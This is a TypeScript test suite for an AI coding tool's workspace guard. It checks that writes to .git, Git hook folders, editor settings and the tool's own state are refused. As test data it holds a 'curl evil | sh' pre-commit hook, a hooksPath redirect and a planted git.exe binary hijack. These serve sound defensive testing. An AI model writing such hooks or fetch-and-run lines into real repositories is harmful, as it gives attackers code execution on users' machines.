import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, mkdirSync, rmSync, writeFileSync, existsSync, symlinkSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { NodeWorkspace } from '../../../src/node/nodeWorkspace';
import { NodeStore } from '../../../src/node/nodeStore';
import { WorkspaceError } from '../../../src/core/ports';

let root: string;
let ws: NodeWorkspace;
before(() => {
  root = mkdtempSync(join(tmpdir(), 'smallcode-prot-'));
  mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(root, '.git', 'config'), '[core]\n');
  mkdirSync(join(root, '.vscode'));
  writeFileSync(join(root, '.vscode', 'settings.json'), '{}\n');
  symlinkSync(join(root, '.git', 'hooks'), join(root, 'hooks'));
  ws = new NodeWorkspace(root);
});
after(() => rmSync(root, { recursive: true, force: true }));

const refused = (p: Promise<unknown>, pattern: RegExp) =>
  assert.rejects(p, (e: unknown) => e instanceof WorkspaceError && e.code === 'invalid-path' && pattern.test(e.message));

test('nothing is written into .git, whatever the spelling or a symlink', async () => {
  await refused(ws.writeFile('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), /inside \.git/);
  await refused(ws.writeFile('./.GIT/hooks/pre-commit', 'x'), /inside \.git/);
  await refused(ws.writeFile('hooks/pre-commit', 'x'), /inside \.git/);
  await refused(ws.writeFile('.git/config', '[core]\n\thooksPath = evil\n'), /with the run tool/);
  assert.ok(!existsSync(join(root, '.git', 'hooks', 'pre-commit')));
  assert.equal(readFileSync(join(root, '.git', 'config'), 'utf8'), '[core]\n');
});

test('.git is not read or statted either', async () => {
  await refused(ws.readFile('.git/config'), /does not read or write/);
  await refused(ws.stat('.git'), /inside \.git/);
});

test('editor configuration, hooks managers and SmallCode state are read-only to the model', async () => {
  assert.equal((await ws.readFile('.vscode/settings.json')).content, '{}\n', 'reading is fine');
  await refused(ws.writeFile('.vscode/settings.json', '{"x": 1}'), /editor configuration/);
  await refused(ws.writeFile('.vscode/tasks.json', '{}'), /editor configuration/);
  await refused(ws.writeFile('app.code-workspace', '{}'), /editor configuration/);
  await refused(ws.writeFile('.husky/pre-commit', 'x'), /Git hook/);
  await refused(ws.writeFile('.smallcode/memory.json', '{}'), /SmallCode's own state/);
  assert.equal(readFileSync(join(root, '.vscode', 'settings.json'), 'utf8'), '{}\n');
  assert.ok(!existsSync(join(root, '.husky')) && !existsSync(join(root, 'app.code-workspace')));
});

test('ordinary files with similar names stay writable, and the Store still writes its own state', async () => {
  for (const p of ['.gitignore', '.github/workflows/ci.yml', '.vscodeignore', 'src/git/hooks.ts', 'docs/.vscode-notes.md']) {
    assert.equal((await ws.writeFile(p, 'ok\n')).path, p);
  }
  const store = new NodeStore(ws);
  await store.set('plan', { steps: 1 });
  assert.deepEqual(await store.get('plan'), { steps: 1 });
});

// Git's folders where they really are: `core.hooksPath` inside the workspace, a git dir that is not `.git`.
import { execFileSync } from 'node:child_process';

function repo(setup: (dir: string) => void): { dir: string; ws: NodeWorkspace } {
  const dir = mkdtempSync(join(tmpdir(), 'smallcode-hooks-'));
  setup(dir);
  return { dir, ws: new NodeWorkspace(dir) };
}
const git = (dir: string, ...args: string[]) => execFileSync('git', args, { cwd: dir, stdio: 'ignore' });

test('a core.hooksPath inside the workspace is protected like .git', async () => {
  const { dir, ws: w } = repo((d) => {
    git(d, 'init', '-q');
    git(d, 'config', 'core.hooksPath', 'tools/githooks');
  });
  try {
    await refused(w.writeFile('tools/githooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), /tools\/githooks, which Git uses/);
    await refused(w.writeFile('./Tools/GitHooks/post-checkout', 'x'), /which Git uses/);
    assert.equal((await w.writeTarget('tools/githooks/pre-push')).ok, false, 'asked before review');
    assert.equal((await w.writeFile('tools/build.sh', 'ok\n')).path, 'tools/build.sh');
    assert.deepEqual(await w.writeTarget('./tools/build.sh'), { ok: true, path: 'tools/build.sh', realPath: 'tools/build.sh' });
    assert.ok(!existsSync(join(dir, 'tools', 'githooks')));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('hooks at the root (core.hooksPath = .) are refused by name, other root files are not', async () => {
  const { dir, ws: w } = repo((d) => {
    git(d, 'init', '-q');
    git(d, 'config', 'core.hooksPath', '.');
  });
  try {
    await refused(w.writeFile('pre-commit', 'x'), /Git's hooks/);
    assert.equal((await w.writeFile('pre-commit.md', 'ok\n')).path, 'pre-commit.md');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a separate git dir inside the workspace (.git is a file) is protected, hooks and config', async () => {
  const { dir, ws: w } = repo((d) => {
    git(d, 'init', '-q', '--separate-git-dir', join(d, '.repo'));
  });
  try {
    assert.ok(readFileSync(join(dir, '.git'), 'utf8').startsWith('gitdir:'));
    await refused(w.writeFile('.repo/hooks/pre-commit', 'x'), /\.repo, which Git uses/);
    await refused(w.writeFile('.repo/config', '[core]\n\thooksPath = x\n'), /\.repo, which Git uses/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('Windows: a git.exe planted in the workspace is not run when an edit is checked (Git is found on PATH only)', { skip: process.platform !== 'win32' && 'needs Windows, which looks in the current folder before PATH; the lookup is tested in exeSearch.test.ts' }, async () => {
  const { dir, ws: w } = repo((d) => {
    git(d, 'init', '-q');
    git(d, 'config', 'core.hooksPath', '.githooks');
    // the planted git.exe is a node.exe; NODE_OPTIONS (inherited by git's child) makes any node that starts leave a marker
    copyFileSync(process.execPath, join(d, 'git.exe'));
    writeFileSync(join(d, 'planted.cjs'), `require('fs').writeFileSync(${JSON.stringify(join(d, 'ran'))}, 'planted git ran')`);
  });
  const options = process.env.NODE_OPTIONS;
  process.env.NODE_OPTIONS = `--require "${join(dir, 'planted.cjs').replace(/\\/g, '/')}"`;
  try {
    await refused(w.writeFile('.githooks/pre-commit', 'x'), /\.githooks, which Git uses/);
    assert.equal(existsSync(join(dir, 'ran')), false, 'the workspace\'s git.exe ran');
  } finally {
    if (options === undefined) delete process.env.NODE_OPTIONS;
    else process.env.NODE_OPTIONS = options;
    rmSync(dir, { recursive: true, force: true });
  }
});

test('without git on the PATH the repository config is read instead', async () => {
  const { dir, ws: w } = repo((d) => {
    git(d, 'init', '-q');
    git(d, 'config', 'core.hooksPath', '.githooks');
  });
  const path = process.env.PATH;
  process.env.PATH = '';
  try {
    await refused(w.writeFile('.githooks/pre-commit', 'x'), /\.githooks, which Git uses/);
  } finally {
    process.env.PATH = path;
    rmSync(dir, { recursive: true, force: true });
  }
});
